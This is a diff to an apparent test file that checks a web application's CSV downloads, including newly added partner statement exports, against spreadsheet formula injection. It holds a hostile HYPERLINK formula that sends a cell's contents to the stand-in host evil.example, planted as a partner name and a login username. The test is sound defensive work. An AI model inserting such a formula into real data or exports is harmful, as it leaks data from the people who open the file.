@@ -17,8 +17,17 @@ const t = setupTestApp({ startWorker: true });
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")';
 /** A cell Excel or LibreOffice would take for a formula (OWASP's CSV injection). */
 const FORMULA = /^[=+\-@\t\r]/;
-/** The columns whose plain numbers stay numbers: the export columns of type number, regel and Rijen. */
-const NUMBER_COLUMNS = new Set(['bedrag', 'getal', 'regel', 'Rijen']);
+/** The columns whose plain numbers stay numbers: the export columns of type number, regel, Rijen and a statement's amounts. */
+const NUMBER_COLUMNS = new Set([
+  'bedrag',
+  'getal',
+  'regel',
+  'Rijen',
+  'Btw-percentage',
+  'Adressen',
+  'Commissie per adres',
+  'Bedrag',
+]);
 
 /** A CSV download route's URL pattern and the URL of its download made here. */
 let downloads: Record<string, string>;
@@ -87,6 +96,15 @@ beforeAll(async () => {
   );
   await t.db.execute(sql`UPDATE mailings SET state = 'offered' WHERE id = ${sent._id}`);
   await t.db.execute(sql`UPDATE partners SET name = ${HYPERLINK} WHERE id = ${s.partnerId}`);
+  // A partner statement of that month, issued (the hostile name frozen in it); a commission added
+  // afterwards makes the next month propose a correction, the draft statement CSV.
+  const issued = await t.api('POST', '/api/statements', { month: '2021-06', partner: s.partnerId });
+  expect(issued.statusCode, issued.body).toBe(200);
+  await t.api('POST', `/api/datasets/${s.partnerId}/${s.datasetId}/commission`, {
+    start: '2021-06-01',
+    end: '2021-06-30',
+    amount: 1.5,
+  });
   // A failed login records the name as typed: a hostile one reaches the audit log's download.
   await recordAudit(t.db, { kind: 'login-failed', username: HYPERLINK, ip: '127.0.0.1', rows: 3 });
   downloads = {
@@ -98,6 +116,8 @@ beforeAll(async () => {
     '/api/campaigns/:campaignId/mailings/:mailingId/selections/:selectionId/csv': `${mailing}/selections/${selection}/csv`,
     '/api/campaigns/:campaignId/mailings/:mailingId/testcsv': `${mailing}/testcsv`,
     '/api/reports/partners.csv': '/api/reports/partners.csv?from=2021-01&to=2021-12',
+    '/api/statements/issued/:id/csv': `/api/statements/issued/${issued.json().id}/csv`,
+    '/api/statements/proposed/csv': `/api/statements/proposed/csv?month=2021-07&partner=${s.partnerId}`,
   };
 });
 
